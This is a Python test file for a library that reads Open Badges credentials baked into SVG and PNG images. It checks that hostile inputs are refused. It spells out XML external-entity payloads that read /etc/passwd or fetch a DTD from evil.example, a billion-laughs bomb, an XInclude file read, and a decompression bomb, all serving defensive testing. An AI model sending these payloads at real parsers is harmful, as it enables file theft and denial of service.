"""Attacks by drawings and pictures that carry a credential, or seem to."""

from __future__ import annotations

import json
from xml.sax.saxutils import escape

from tests.sceau.formats.test_baking_png import chunk, itxt, png
from tests.sceau.hostile.good import (
    PASSED,
    Attack,
    cdata,
    credential,
    failed,
    intact,
    raises,
    refused,
    svg,
    token,
)

from sceau.errors import (
    NothingFoundError,
    SeveralFoundError,
    TooLargeError,
    UnreadableError,
    UnsupportedFormatError,
)
from sceau.formats import baking

SEVERAL = refused(SeveralFoundError)
UNREADABLE, NOTHING, LARGE = refused(UnreadableError), refused(NothingFoundError), refused(TooLargeError)
DOCTYPE = '<!DOCTYPE svg [<!ENTITY a "x">]>'
LAUGHS = "<!DOCTYPE svg [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)
)
EXTERNAL = '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/a.dtd"> %a;]>'
UNREAD = refused(UnsupportedFormatError)
KEYWORD = b"openbadgecredential\0"
PIXEL_IN_XML = '<image href="data:image/png;base64,iVBORw0KGgo="/>'
SVG = 'xmlns="http://www.w3.org/2000/svg"'
INCLUDE = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'


def filled(start: str, count: int, end: str = "") -> bytes:
    return f"<svg {SVG}>{start * count}{end}".encode()


def baked(own_id: str = "") -> bytes:
    return json.dumps(credential(**({"id": own_id} if own_id else {})), ensure_ascii=False).encode()


def both_generations() -> bytes:
    return png(itxt(baked()), itxt(b'{"type": "Assertion"}', b"openbadges"))


def many_attributes() -> str:
    attributes = " ".join(f'a{number:x}="1"' for number in range(400_000))
    return f"<svg {SVG} {attributes}/>"


ATTACKS = (
    Attack("a drawing as it is", intact(lambda: svg(cdata())), PASSED),
    Attack(
        "the JSON with entities, not CDATA", intact(lambda: svg(escape(json.dumps(credential())))), PASSED
    ),
    Attack(
        "the CDATA cut in two", intact(lambda: svg(cdata().replace("Camille", "Cam]]><![CDATA[ille"))), PASSED
    ),
    Attack("another prefix for the same namespace", intact(lambda: svg(cdata(), prefix="ob")), PASSED),
    Attack(
        "a script beside it, which nobody runs",
        intact(lambda: svg(cdata(), around="<script>x()</script>")),
        PASSED,
    ),
    Attack(
        "a style sheet from elsewhere, which nobody gets",
        intact(lambda: svg(cdata(), head='<?xml-stylesheet href="https://x.example"?>')),
        PASSED,
    ),
    Attack(
        "a token in verify",
        intact(lambda: svg().replace(b"credential>", f'credential verify="{token()}">'.encode(), 1)),
        PASSED,
    ),
    # Entities
    Attack("a document type", intact(lambda: svg(cdata(), head="<!DOCTYPE svg>")), UNREADABLE),
    Attack("an entity", intact(lambda: svg("&a;", head=DOCTYPE)), UNREADABLE),
    Attack("a billion laughs", intact(lambda: svg("&a9;", head=LAUGHS + "]>")), UNREADABLE),
    Attack("a file of this machine as an entity", intact(lambda: svg("&a;", head=EXTERNAL)), UNREADABLE),
    Attack("a document type from elsewhere", intact(lambda: svg(cdata(), head=PARAMETER)), UNREADABLE),
    Attack("an entity that nobody defined", intact(lambda: svg("&a;")), UNREADABLE),
    Attack("a file of this machine by XInclude", intact(lambda: svg(INCLUDE)), NOTHING),
    # Which credential
    Attack("no credential", intact(lambda: f"<svg {SVG}/>"), NOTHING),
    Attack("an empty credential", intact(svg), NOTHING),
    Attack(
        "two credentials",
        intact(
            lambda: svg(
                cdata(), around=f'<o:credential xmlns:o="{baking.NAMESPACE}">{cdata()}</o:credential>'
            )
        ),
        SEVERAL,
    ),
    Attack(
        "a credential in a credential",
        intact(lambda: svg(f"<openbadges:credential>{cdata()}</openbadges:credential>")),
        SEVERAL,
    ),
    Attack(
        "a token and a text at once",
        intact(lambda: svg(cdata()).replace(b"credential>", b'credential verify="a.b.c">', 1)),
        UNREADABLE,
    ),
    Attack(
        "a credential in a comment",
        intact(lambda: f"<svg {SVG}><!-- {svg(cdata()).decode()} --></svg>"),
        NOTHING,
    ),
    Attack(
        "a credential in another namespace",
        intact(lambda: svg(cdata()).replace(b"/ob/v3p0", b"/ob/v3p1")),
        NOTHING,
    ),
    Attack(
        "an assertion of Open Badges 2",
        intact(lambda: svg(cdata()).replace(b"credential>", b"assertion>")),
        NOTHING,
    ),
    Attack("a page, not a drawing", intact(lambda: b"<html><body/></html>"), UNREADABLE),
    Attack(
        "the credential as the root",
        intact(lambda: f'<o:credential xmlns:o="{baking.NAMESPACE}"/>'),
        UNREADABLE,
    ),
    Attack(
        "a credential that was altered",
        intact(lambda: svg(cdata(credential(name="Autre")))),
        failed("proof.mismatch"),
    ),
    Attack(
        "an element within the JSON, whose text counts",
        intact(lambda: svg(f"<a>{escape(json.dumps(credential()))}</a>")),
        PASSED,
    ),
    Attack("a drawing in a drawing", intact(lambda: svg(f"<![CDATA[{svg().decode()}]]>")), UNREADABLE),
    Attack("words in place of JSON", intact(lambda: svg("bonjour")), UNREADABLE),
    # Writing
    Attack("never closed", intact(lambda: svg(cdata())[:-6]), UNREADABLE),
    Attack("in UTF-16", intact(lambda: svg(cdata()).decode().encode("utf-16")), UNREADABLE),
    Attack(
        "said to be in UTF-7",
        intact(lambda: svg(cdata(), head='<?xml version="1.0" encoding="utf-7"?>')),
        UNREADABLE,
    ),
    Attack(
        "said to be in an encoding of nobody's",
        intact(lambda: svg(cdata(), head='<?xml version="1.0" encoding="x"?>')),
        UNREADABLE,
    ),
    Attack("a NUL", intact(lambda: svg("\0")), UNREADABLE),
    Attack("a control character by its number", intact(lambda: svg("&#7;")), UNREADABLE),
    Attack("a surrogate by its number", intact(lambda: svg("&#xD800;")), UNREADABLE),
    Attack("a prefix that nobody declared", intact(lambda: f"<svg {SVG}><o:credential/></svg>"), UNREADABLE),
    # Too much
    Attack("6 MB", intact(lambda: svg("a" * 6_000_000)), LARGE),
    Attack("1,200,000 elements", intact(lambda: filled("<a/>", 1_200_000, "</svg>")), LARGE),
    Attack("100,001 elements", intact(lambda: filled("<a/>", 100_001, "</svg>")), LARGE),
    Attack("elements 1,600,000 deep", intact(lambda: filled("<a>", 1_600_000)), LARGE),
    Attack(
        "elements 140,000 deep, closed again",
        intact(lambda: filled("<a>", 140_000, "</a>" * 140_000 + "</svg>")),
        LARGE,
    ),
    Attack("400,000 attributes", intact(many_attributes), NOTHING),
    Attack("an attribute of 4 MB", intact(lambda: f'<svg {SVG} a="{"a" * 4_000_000}"/>'), NOTHING),
    Attack("100,000 entities by number", intact(lambda: svg("&#97;" * 100_000)), UNREADABLE),
    # PNG
    Attack("a picture as it is", intact(lambda: png(itxt(baked()))), PASSED),
    Attack("a picture around a token", intact(lambda: png(itxt(token().encode()))), PASSED),
    Attack(
        "ten chunks that say different things",
        intact(lambda: png(*(itxt(baked(f"urn:x:{number}")) for number in range(10)))),
        SEVERAL,
    ),
    Attack("ten chunks that say the same", intact(lambda: png(*[itxt(baked())] * 10)), SEVERAL),
    Attack("one credential, and one of Open Badges 2", intact(both_generations), SEVERAL),
    Attack(
        "a second one after the end of the picture", intact(lambda: png(itxt(baked())) + itxt(b"{}")), PASSED
    ),
    Attack(
        "a text that inflates to 20 MB", intact(lambda: png(itxt(b" " * 20_000_000, compressed=True))), UNREAD
    ),
    Attack(
        "another kind of chunk than the standard says",
        intact(lambda: png(chunk(b"tEXt", KEYWORD + baked()))),
        UNREAD,
    ),
    Attack(
        "a chunk that is longer than the picture", intact(lambda: png(b"\x7f\xff\xff\xffiTXt")), UNREADABLE
    ),
    Attack(
        "a chunk that was changed and its sum was not",
        intact(lambda: png(itxt(baked())).replace(b"Camille", b"Camilla")),
        UNREADABLE,
    ),
    Attack("200,000 chunks", intact(lambda: png(chunk(b"tEXt", b"Comment\0x") * 200_000)), LARGE),
    Attack("no chunk of the kind", intact(png), NOTHING),
    Attack("a picture within the drawing's element", intact(lambda: svg(PIXEL_IN_XML)), NOTHING),
    # Baking
    Attack("to bake twice", raises(lambda: baking.bake_svg(svg(cdata()).decode(), b"{}")), UNREADABLE),
    Attack(
        "to bake a tag in a comment",
        raises(lambda: baking.bake_svg(f"<!-- <svg {SVG}> --><html/>", b"{}")),
        UNREADABLE,
    ),
    Attack(
        "a PDF with a drawing's ending", intact(lambda: b"%PDF-1.7<svg/>"), refused(UnsupportedFormatError)
    ),
)
